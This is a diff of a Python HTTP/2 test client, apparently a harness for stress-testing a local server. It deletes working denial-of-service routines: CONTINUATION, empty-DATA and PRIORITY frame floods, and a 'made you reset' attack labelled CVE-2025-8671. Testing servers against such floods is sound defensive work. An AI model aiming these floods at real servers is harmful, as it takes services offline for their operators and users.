@@ -8,7 +8,7 @@ import sys
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
 GET = b"\x82\x86\x84\x01\x09localhost"
 POST = b"\x83\x86\x84\x01\x09localhost"
 
@@ -46,43 +46,6 @@ class Client:
             if kind == GOAWAY:
                 self.code = int.from_bytes(payload[4:8], "big")
             yield kind, flags, stream, payload
-
-    def flood(self, octets):
-        """Sends what `octets` gives for a number, again and again, until the connection is ended."""
-        try:
-            for index in range(1_000_000):
-                self.socket.settimeout(10)
-                self.socket.sendall(octets(index))
-                list(self.frames())
-                if self.code or self.ended:
-                    break
-        except (ConnectionError, TimeoutError):
-            list(self.frames(1))
-        print("goaway", self.code)
-
-
-def continuations(port):
-    client = Client(port)
-    client.socket.sendall(frame(HEADERS, 1, 1, GET))
-    client.flood(lambda _: frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x00" + b"x" * 127))
-
-
-def empty_data(port):
-    client = Client(port)
-    client.socket.sendall(frame(HEADERS, 4, 1, POST))
-    client.flood(lambda _: frame(DATA, 0, 1) * 10)
-
-
-def made_you_reset(port):
-    """CVE-2025-8671: has the other side reset each stream itself, here by a window that is too large."""
-    def attack(index):
-        stream = 2 * index + 1
-        return frame(HEADERS, 5, stream, GET) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")
-    Client(port).flood(attack)
-
-
-def priorities(port):
-    Client(port).flood(lambda index: frame(PRIORITY, 0, 2 * index + 1, b"\x00\x00\x00\x00\x10") * 10)
 
 
 def bomb(port):
